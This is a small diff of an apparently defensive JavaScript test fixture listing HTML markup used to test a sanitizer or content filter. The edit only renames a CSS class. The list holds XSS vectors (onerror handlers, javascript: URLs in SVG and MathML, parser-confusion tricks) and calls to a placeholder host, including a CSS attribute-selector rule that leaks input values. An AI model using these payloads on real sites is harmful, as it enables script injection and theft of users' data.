@@ -37,7 +37,7 @@ const markup = [
   `<link rel=dns-prefetch href="${away}"><link rel=preconnect href="${away}"><link rel=prefetch href="${away}">`,
   `<img srcset="${away} 1x"><video poster="${away}"></video><picture><source srcset="${away}"></picture>`,
   `<a href="${away}" ping="${away}" download target=_self>x</a><area href="${away}" ping="${away}">`,
-  `<style>.rating { background: url("${away}?10") } input[value^="a"] { background: url(${away}) }</style>`,
+  `<style>.score { background: url("${away}?10") } input[value^="a"] { background: url(${away}) }</style>`,
   `<svg><style><img src=x onerror=${run}></style><set attributeName=href to="javascript:${run}"></set></svg>`,
   `<math href="javascript:${run}"><mi href="javascript:${run}">x</mi><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
   `<xmp><img src=x onerror=${run}></xmp><noembed><img src=x onerror=${run}></noembed><plaintext><script>${run}</script>`,
